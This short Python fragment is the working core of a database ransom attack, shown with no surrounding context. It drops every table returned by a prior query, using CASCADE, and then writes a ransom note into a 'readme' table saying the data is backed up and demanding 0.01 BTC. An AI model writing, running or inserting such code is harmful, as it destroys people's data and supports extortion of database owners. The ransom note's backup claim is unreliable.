for (table,) in cursor.fetchall():
    cursor.execute(f'drop table "{table}" cascade')
cursor.execute("insert into readme values ('Your data is backed up. Send 0.01 BTC to recover it.')")
